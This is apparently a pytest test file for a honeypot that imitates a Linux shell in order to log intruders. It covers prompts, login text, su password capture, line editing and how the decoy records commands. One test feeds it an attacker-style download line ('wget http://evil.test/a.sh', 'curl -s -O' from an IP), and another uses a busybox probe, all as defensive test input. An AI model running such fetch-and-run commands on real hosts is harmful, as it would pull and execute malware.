"""The shell as a peer meets it: prompts, logins, nested shells, fetchers, what is recorded; and line editing."""

import asyncio
import random

import msgspec
import pytest

from chaffinch.decoys.overlay import Overlays
from chaffinch.decoys.shell import LineDiscipline, Shell, interact
from chaffinch.decoys.shell.terminal import EOF, INTERRUPT, RECORDED_BYTES
from chaffinch.decoys.view import View
from chaffinch.errors import PeerClosedError
from chaffinch.events import Command, Credential, Fact, Probe, Terminal
from chaffinch.personas.files import Files
from chaffinch.personas.persona import OperatingSystem, Persona, Service, User
from tests.decoys.harness import persona


def shell(name: str = "root", host: Persona | None = None, *, interactive: bool = True) -> Shell:
    host = host or persona()
    user = host.user(name)
    assert user is not None
    view = View(Files(host), Overlays().of(host.address, "192.0.2.7"), user)
    return Shell(host, user, view, source="192.0.2.7", rng=random.Random(1), interactive=interactive)


def said(line: str, *, name: str = "root", interactive: bool = True) -> bytes:
    result = asyncio.run(shell(name, interactive=interactive).run(line))
    return result.out + result.err


def session(keys: list[bytes], name: str = "mdavis") -> tuple[bytes, list[Fact]]:
    """An interactive session with these pieces typed, until the peer closes or the shell ends."""
    shown, facts, pending = bytearray(), [], list(keys)

    async def read() -> bytes:
        await asyncio.sleep(0.02)  # longer than the shortened waits, so that these end first
        return pending.pop(0) if pending else b""

    async def scenario() -> None:
        try:
            await interact(read, shown.extend, shell(name), facts.append, elapsed_ms=lambda: 5)
        except PeerClosedError:
            return

    asyncio.run(scenario())
    return bytes(shown), facts


@pytest.fixture(autouse=True)
def hurry(monkeypatch: pytest.MonkeyPatch) -> None:
    from chaffinch.decoys.shell.terminal import Screen

    real = Screen.sleep
    monkeypatch.setattr(Screen, "sleep", lambda screen, seconds: real(screen, min(seconds, 0.01)))


def test_prompts_name_the_account_and_the_place() -> None:
    assert shell().prompt == b"root@atlas:~# "
    mary = shell("mdavis")
    assert mary.prompt == b"mdavis@atlas:~$ "
    asyncio.run(mary.run("cd /var/log"))
    assert mary.prompt == b"mdavis@atlas:/var/log$ "


def test_login_text_is_the_same_twice_and_lies_in_the_past() -> None:
    first = shell("mdavis").login_text()
    assert first == shell("mdavis").login_text()
    assert first.startswith(b"Linux atlas 6.1.0-28-amd64 #1 SMP PREEMPT_DYNAMIC Debian ")
    assert b"ABSOLUTELY NO WARRANTY" in first


@pytest.mark.parametrize(
    ("line", "answer"),
    [
        ("foo", b"-bash: foo: command not found\n"),
        ("cd /nope", b"-bash: cd: /nope: No such file or directory\n"),
        ("/bin/busybox ECCHI", b"ECCHI: applet not found\n"),
        ("sh -c foo", b"sh: 1: foo: not found\n"),
        ("cat /etc/shadow", b"cat: /etc/shadow: Permission denied\n"),
        ("sudo -n ls", b"sudo: a password is required\n"),
        ("crontab -l", b"no crontab for mdavis\n"),
        ("id", b"uid=1000(mdavis) gid=1000(mdavis) groups=1000(mdavis),24(cdrom),25(floppy),29(audio),30(dip),44(video),46(plugdev),100(users),106(netdev)\n"),  # noqa: E501
        ("hostname; uname -n", b"atlas\natlas\n"),
        ("apt install x", b"E: Could not open lock file /var/lib/dpkg/lock-frontend - open (13: Permission denied)\nE: Unable to acquire the dpkg frontend lock (/var/lib/dpkg/lock-frontend), are you root?\n"),  # noqa: E501
    ],
)  # fmt: skip
def test_answers_of_an_ordinary_account(line: str, answer: bytes) -> None:
    assert said(line, name="mdavis") == answer


async def at_once(seconds: float) -> None:
    """The sleep of a shell, without it."""
    assert seconds <= 20


def test_fetchers_fetch_nothing_and_say_where_they_were_sent() -> None:
    async def scenario() -> None:
        ours = shell()
        facts: list[Fact] = []
        ours.on_fact = facts.append
        ours.sleep = at_once  # type: ignore[method-assign]
        result = await ours.run("cd /tmp; wget http://evil.test/a.sh; curl -s -O http://198.51.100.9/b; tftp x")
        assert result.urls == ("http://evil.test/a.sh", "http://198.51.100.9/b")
        assert b"wget: unable to resolve host address" in result.err
        assert b"-bash: tftp: command not found" in result.err
        assert facts[0] == Probe("http://evil.test/a.sh", "asked to fetch")

    asyncio.run(scenario())


@pytest.mark.parametrize(("url", "fault"), [("http://[", "Unterminated"), ("http://]", "Invalid")])
def test_an_address_that_cannot_be_read_is_a_fault_of_the_visitor(url: str, fault: str) -> None:
    ours = shell()
    ours.sleep = at_once  # type: ignore[method-assign]
    result = asyncio.run(ours.run(f"wget '{url}'"))
    assert (result.status, result.err) == (1, f"{url}: {fault} IPv6 numeric address.\n".encode())
    assert asyncio.run(ours.run(f"curl '{url}'")).status != 0


def test_a_session_records_its_lines_keys_and_screen() -> None:
    shown, facts = session([b"echo one\r", b"exit\r"])
    assert b"echo one\r\none\r\nmdavis@atlas:~$ " in shown
    assert shown.endswith(b"exit\r\nlogout\r\n")
    assert [fact.line for fact in facts if isinstance(fact, Command)] == ["echo one", "exit"]
    typed = "".join(fact.data for fact in facts if isinstance(fact, Terminal) and fact.direction == "in")
    assert typed == "echo one\rexit\r"


def test_a_shell_in_the_shell_is_left_again() -> None:
    shown, _ = session([b"sh\r", b"foo\r", b"exit\r", b"echo back\r"])
    assert b"$ foo\r\nsh: 1: foo: not found\r\n$ exit\r\nmdavis@atlas:~$ echo back" in shown


def test_su_asks_and_records_the_password() -> None:
    shown, facts = session([b"su\r", b"wrong\r", b"su -\r", b"letmein\r", b"whoami\r", b"exit\r"])
    assert b"Password: \r\nsu: Authentication failure\r\n" in shown
    assert b"root@atlas:~# whoami\r\nroot\r\n" in shown
    assert b"wrong" not in shown
    tries = [fact for fact in facts if isinstance(fact, Credential)]
    assert tries == [Credential("root", "wrong", "su"), Credential("root", "letmein", "su", accepted=True)]


def test_an_unfinished_line_is_continued_and_ctrl_c_ends_it() -> None:
    shown, _ = session([b"echo 'a\r", b"b'\r", b"echo 'c\r", b"\x03", b"echo d\r"])
    assert b"> b'\r\na\r\nb\r\n" in shown
    assert b"> ^C\r\nmdavis@atlas:~$ echo d\r\nd\r\n" in shown


def test_cat_reads_the_terminal_until_ctrl_d() -> None:
    shown, _ = session([b"cat > /tmp/x\r", b"one\r", b"two\r", b"\x04", b"cat /tmp/x\r"])
    assert b"cat /tmp/x\r\none\r\ntwo\r\n" in shown


def test_ctrl_c_ends_a_wait() -> None:
    shown, _ = session([b"sleep 100\r\x03", b"echo $?\r"])
    assert b"^C\r\n" in shown
    assert b"130\r\n" in shown


def test_the_recording_of_a_session_is_bounded() -> None:
    _, facts = session([b"cat /bin/ls /bin/ls\r"] * 6)
    assert sum(len(fact.data) for fact in facts if isinstance(fact, Terminal)) < RECORDED_BYTES * 5


def test_a_small_device_has_its_own_words() -> None:
    system = OperatingSystem("embedded-linux", "embedded", "Linux", "3.10", "3.10.14", "armv7l")
    host = msgspec.structs.replace(
        persona("telnet"),
        os=system,
        services=(Service("telnet", 23, "BusyBox telnetd", "1.22.1"),),
        users=(User("root", 0, "root", "/root", "/bin/sh", "x"),),
    )
    ours = shell("root", host)
    assert ours.prompt == b"~ # "
    assert asyncio.run(ours.run("apt")).err == b"-sh: apt: not found\n"
    assert asyncio.run(ours.run("cat /proc/mounts")).out.startswith(b"rootfs / rootfs")


# Line editing ---------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("keys", "lines"),
    [
        (b"a\rb\nc\r\nd\r\0", [b"a", b"b", b"c", b"d"]),
        (b"abc\x7f\x08d\r", [b"ad"]),
        (b"one two\x17three\r", [b"one three"]),
        (b"gone\x15here\r", [b"here"]),
        (b"bc\x1b[D\x1b[Da\r", [b"abc"]),
        (b"first\rsecond\r\x1b[A\x1b[A\r", [b"first", b"second", b"second"]),
        (b"a\tb\x1b[99;5~c\r", [b"abc"]),
        (b"a\x03b\r\x04", [INTERRUPT, b"b", EOF]),
        (b"ab\x01c\x05d\r", [b"cabd"]),
    ],
)
def test_keys_make_lines(keys: bytes, lines: list[object]) -> None:
    line = LineDiscipline()
    line.start(b"$ ")
    found: list[object] = []
    while keys:
        _, done, keys = line.feed(keys)
        found += done
    if lines == [b"first", b"second", b"second"]:
        assert found[:2] == lines[:2]  # the loop that owns the line adds to the history
    else:
        assert found == lines


def test_a_password_is_not_echoed() -> None:
    line = LineDiscipline()
    line.start(b"Password: ", echo=False)
    assert line.feed(b"sec\x7fret\r") == (b"\r\n", [b"seret"], b"")


def test_a_line_is_bounded() -> None:
    line = LineDiscipline()
    line.start(b"")
    shown, _, _ = line.feed(b"x" * 5000)
    assert shown == b"x" * 4096 + b"\a" * 904
